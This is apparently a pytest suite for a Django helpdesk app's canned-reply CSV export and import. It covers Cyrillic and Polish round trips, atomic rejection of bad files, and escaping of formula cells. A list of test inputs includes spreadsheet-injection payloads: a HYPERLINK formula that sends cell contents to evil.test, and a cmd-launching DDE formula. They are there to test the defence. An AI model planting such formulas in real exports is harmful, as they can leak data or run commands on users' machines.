"""CSV export and import: UTF-8 round trip with Cyrillic and Polish, all or nothing."""

import pytest
from django_scopes import scopes_disabled

from apps.canned import transfer
from apps.canned.models import CannedReply, Scope

pytestmark = pytest.mark.django_db


def rows(tenant):
    with scopes_disabled():
        return sorted(
            CannedReply.objects.filter(tenant=tenant).values_list(
                "scope", "department__name", "shortcut", "title", "text", "language", "tags"
            )
        )


def test_export_then_import_into_another_company_gives_the_same_replies(tenant, other_tenant, sales, make_reply):
    from tests import factories

    make_reply(
        "dostavka",
        "Сроки доставки",
        'Обычно 2–5 дней, "быстро";\nспасибо, {{visitor.name|друг}}!',
        language="ru",
        tags="доставка, ёлка",
    )
    make_reply("zolw", "Żółw, źdźbło i łódź", "Zażółć gęślą jaźń", language="pl", tags="pożegnanie")
    make_reply("sales", "Sales only", "x", scope=Scope.DEPARTMENT, department=sales)
    make_reply("private", scope=Scope.PERSONAL, owner=factories_membership(tenant))
    exported = transfer.canned_csv_export(tenant=tenant)
    assert exported.startswith("shortcut,title,text,language,tags,scope,department\r\n")
    assert "private" not in exported

    with scopes_disabled():
        factories.DepartmentFactory(tenant=other_tenant, name="SALES")
    result = transfer.canned_csv_import(tenant=other_tenant, data=exported.encode("utf-8"))
    assert (result.created, result.updated) == (3, 0)
    shared = [row for row in rows(tenant) if row[0] != "personal"]
    assert [row[2:] for row in rows(other_tenant)] == [row[2:] for row in shared]
    assert transfer.canned_csv_export(tenant=other_tenant).replace("SALES", "Sales") == exported


def factories_membership(tenant):
    from tests import factories

    with scopes_disabled():
        return factories.MembershipFactory(tenant=tenant)


def test_importing_an_edited_export_updates_in_place(tenant, make_reply):
    reply = make_reply("hello", "Hello", "Hi")
    exported = transfer.canned_csv_export(tenant=tenant).replace(",Hi,", ",Cześć,")
    exported += "bye,Пока,До свидания,ru,,,\r\n"
    result = transfer.canned_csv_import(tenant=tenant, data=("\ufeff" + exported).encode("utf-8"))
    assert (result.created, result.updated) == (1, 1)
    with scopes_disabled():
        reply.refresh_from_db()
        assert reply.text == "Cześć"
        assert CannedReply.objects.get(shortcut="bye").title == "Пока"


def import_errors(tenant, data):
    with pytest.raises(transfer.CsvImportError) as info:
        transfer.canned_csv_import(tenant=tenant, data=data)
    return info.value.errors


def test_a_file_with_bad_rows_imports_nothing_and_names_each_line(tenant, make_reply):
    make_reply("hello")
    data = (
        b"shortcut,title,text,language,tags,department\n"
        b"ok,Fine,Text,en,,\n"
        b"bad shortcut,Title,Text,en,,\n"
        b"hi,Title,Hi {{visitor.nmae}},en,,\n"
        b"de,Title,Text,de,,\n"
        b"ok,Again,Text,en,,\n"
        b"dep,Title,Text,en,,Nowhere\n"
        b"short,row\n"
    )
    errors = import_errors(tenant, data)
    assert [line for line, _ in errors] == [3, 4, 5, 6, 7, 8]
    assert "visitor.nmae" in errors[1][1] and "Nowhere" in errors[4][1] and "line 2" in errors[3][1]
    assert [r[2] for r in rows(tenant)] == ["hello"]


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"", None),
        ("shortcut,title,text\nok,Zażółć,x\n".encode("cp1250"), 2),
        (b"name,body\nx,y\n", 1),
        (b"shortcut,title,text,shortcut\n", 1),
        (b"shortcut,title,text\n", None),
        (b"shortcut,title,text\n\x00,x,y\n", None),
        (b'shortcut,title,text\nok,"unterminated,x\n', 2),
    ],
    ids=["empty", "not-utf8", "wrong-columns", "twice", "no-rows", "binary", "broken-quote"],
)
def test_a_broken_file_is_refused_with_a_clear_error(tenant, data, line):
    errors = import_errors(tenant, data)
    assert errors and errors[0][0] == line and errors[0][1]
    with scopes_disabled():
        assert not CannedReply.objects.exists()


def test_a_file_over_the_limit_is_refused(tenant, monkeypatch):
    monkeypatch.setattr(transfer, "IMPORT_MAX_BYTES", 100)
    assert import_errors(tenant, b"shortcut,title,text\n" + b"a,b,c\n" * 30)


FORMULAS = [
    '=HYPERLINK("https://evil.test/?d="&A1,"Click")',
    "+1 for the blue one",
    "-5% this week",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by hand",
    "''+twice",
    "'Tis fine, an apostrophe alone",
]


def test_formula_cells_are_exported_neutralised_and_imported_back_as_written(tenant, other_tenant, make_reply):
    import csv
    import io

    for number, text in enumerate(FORMULAS):
        make_reply(f"f{number}", title=text, text=text, tags="-tag" if number == 0 else "")
    exported = transfer.canned_csv_export(tenant=tenant)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(transfer.FORMULA_STARTS)]
    assert "'=HYPERLINK(" in exported and "'+1 for" in exported and "'-5%" in exported and "'@SUM" in exported

    result = transfer.canned_csv_import(tenant=other_tenant, data=exported.encode("utf-8"))
    assert result.created == len(FORMULAS)
    assert [row[2:] for row in rows(other_tenant)] == [row[2:] for row in rows(tenant)]


@pytest.mark.parametrize("value", ["\t=1", "\r=1", "\t", "=", "'", "''", "'-", "x=1", "", "—", "'\t"])
def test_cell_export_and_import_are_inverse(value):
    exported = transfer.cell_export(value)
    assert not exported.startswith(transfer.FORMULA_STARTS)
    assert transfer.cell_import(exported) == value


def test_cell_export_and_import_are_inverse_for_any_text():
    from hypothesis import given
    from hypothesis import strategies as st

    @given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=20))
    def check(value):
        exported = transfer.cell_export(value)
        assert not exported.startswith(transfer.FORMULA_STARTS)
        assert transfer.cell_import(exported) == value

    check()
